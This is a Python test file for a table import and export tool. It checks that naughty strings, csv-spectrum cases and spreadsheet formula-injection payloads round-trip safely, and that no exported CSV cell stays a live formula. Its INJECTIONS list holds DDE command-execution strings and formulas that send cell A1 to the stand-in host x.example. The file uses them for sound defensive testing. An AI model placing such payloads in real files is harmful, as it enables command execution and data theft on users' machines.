"""Public collections of hard input: the big list of naughty strings, csv-spectrum, and formulas that spreadsheets would run."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from qjmap.edit import add
from qjmap.project import Project, load_project
from qjmap.schema import TABLES
from qjmap.tables import read_table
from qjmap.tables.cell_values import clean
from qjmap.tables.empty_words import is_empty_word
from qjmap.tables.readers.choose_reader import read_grid
from qjmap.tables.readers.delimited import neutralised
from tests.edit.test_round_trip import run
from tests.region import make_region
from tests.tables.table_files import text_of

pytestmark = pytest.mark.slow

COLLECTIONS = Path(__file__).parents[1] / "node_modules"
SITES = TABLES["sites"]

INJECTIONS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?a="&A1,"x")', '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    '=WEBSERVICE("http://x.example/"&A1)', '=IMAGE("http://x.example")', '=DDE("cmd";"/C calc";"x")', "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", '"=1+1"', '=1+1";=1+1', "x,=1+1",
    "x;=1+1", "x\n=1+1", "x\r\n=1+1", "%0A=1+1", "-2+3+cmd|' /C calc'!E1", "+49 23 4860", "-5", "-5.5", "+5", "--5",
    "-", "+", "=", "@", "'", "=\u200b1", "\ufeff=1+1", "\xa0=1+1",
]  # fmt: skip
"""Cells that a spreadsheet takes for formulas, and their neighbours, which it does not."""


def naughty_strings() -> list[str]:
    if not COLLECTIONS.is_dir():
        pytest.fail("the collections are not there: make test fetches them (bash tests/install.sh)")
    path = COLLECTIONS / "blns" / "resources" / "blns.json"
    strings: list[str] = json.loads(path.read_text(encoding="utf-8"))
    return strings


def added(folder: Path, strings: list[str], column: str) -> tuple[Project, dict[str, str], set[str]]:
    """A region to which a row was added for each string; id -> string of those it took, ids of the refused ones."""
    project = load_project(make_region(folder / "湾区"))
    named = column == "name"
    heads = ["id", column, "source"] if named else ["id", "name", column, "source"]
    rows = [[f"string-{at}", *([] if named else [f"甲{at}"]), text, "survey"] for at, text in enumerate(strings)]
    file = folder / "new.csv"
    # As any program that keeps formulas from running writes it; a lone apostrophe before one is read as such a mark.
    guarded = [[neutralised(cell) for cell in row] for row in rows]
    file.write_bytes(text_of([heads, *guarded]).encode("utf-8", "surrogatepass"))
    report = add(project, file)
    refused = {f"string-{row - 2}" for row in report.refused}
    for row in report.refused:  # by name: the row, the column, a reason
        assert any(
            fault.row == row and fault.column in (column, "name") and fault.line("en") for fault in report.faults
        )
    assert len(report.added) + len(report.already) + len(report.refused) == len(strings)
    return project, {f"string-{at}": text for at, text in enumerate(strings) if f"string-{at}" not in refused}, refused


def same(left: str, right: str) -> bool:
    """The same text; blanks around a cell and the kind of its line breaks are no part of it."""
    return clean(left) == clean(right)


@pytest.mark.parametrize("column", ["name", "description", "address", "自拟栏"])
@pytest.mark.parametrize("what", ["naughty", "injections"])
def test_strings_survive_adding_and_exporting(what: str, column: str, tmp_path: Path) -> None:
    strings = naughty_strings() if what == "naughty" else INJECTIONS
    project, kept, refused = added(tmp_path, strings, column)
    assert len(kept) > 0.9 * len([text for text in strings if clean(text)])
    for form in ("geojson", "csv"):
        out = tmp_path / f"sites.{form}"
        assert run("export", project.root, "--layer", "sites", "--format", form, "-o", out) == 0
        frame = read_table(out, SITES).frame.set_index("id")
        for own, text in kept.items():
            is_empty = column == "address" and is_empty_word(clean(text))  # 无, -, undefined: no address
            assert same(frame[column][own], "" if is_empty else text), (form, own, text)
        assert not refused & set(frame.index)
    again = add(project, tmp_path / "sites.geojson", dry_run=True)
    assert (again.added, again.updated, again.refused) == ([], [], [])


def test_no_table_for_people_holds_a_formula(tmp_path: Path) -> None:
    project, _, _ = added(tmp_path, INJECTIONS + naughty_strings(), "name")
    out = tmp_path / "sites.csv"
    assert run("export", project.root, "--layer", "sites", "--format", "csv", "-o", out) == 0
    for path in (out, project.table_path("sites"), tmp_path / "new.csv.refused.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            for cell in row:
                plain = (
                    cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip("+-").replace(".", "", 1).isdigit()
                )
                assert plain, (path.name, cell)


@pytest.mark.parametrize(
    "name",
    [
        "comma_in_quotes", "empty", "empty_crlf", "escaped_quotes", "json", "location_coordinates", "newlines", "newlines_crlf",
        "quotes_and_newlines", "simple", "simple_crlf", "utf8",
    ],
)  # fmt: skip
def test_csv_spectrum(name: str) -> None:
    folder = COLLECTIONS / "csv-spectrum"
    assert len(list((folder / "csvs").iterdir())) == 12
    expected: Any = json.loads((folder / "json" / f"{name}.json").read_bytes().decode("utf-8", "replace"))
    grid = read_grid(folder / "csvs" / f"{name}.csv", SITES, shown=name)
    if name == "location_coordinates":  # its JSON is one object and tells of another telephone than its CSV
        expected = [{**expected, "Contact Phone Number": "2095257564"}]
    rows = grid.rows if grid.columns is None else [*zip(*grid.columns, strict=True)]
    assert [dict(zip(grid.header, row, strict=True)) for row in rows] == expected
    assert [fault for fault in grid.faults if fault.severity == "fault"] == []
